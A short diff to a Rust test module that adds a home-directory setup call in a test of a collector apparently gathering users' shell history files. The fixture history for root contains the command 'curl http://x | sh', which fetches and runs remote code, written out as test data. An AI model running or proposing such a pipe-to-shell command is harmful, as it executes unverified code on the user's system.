@@ -76,6 +76,7 @@ mod tests {
         f.write("/home/alice/.local/share/fish/fish_history", "- cmd: whoami\n");
         f.symlink("/dev/null", "/home/bob/.bash_history");
         f.fifo("/home/bob/.viminfo");
+        f.give_homes();
         let sink = run(&Histories, f.root());
         assert_eq!(sink.item("root/.bash_history").text(), "id\ncurl http://x | sh\n");
         assert_eq!(sink.item("root/.bash_history").source, "/root/.bash_history");
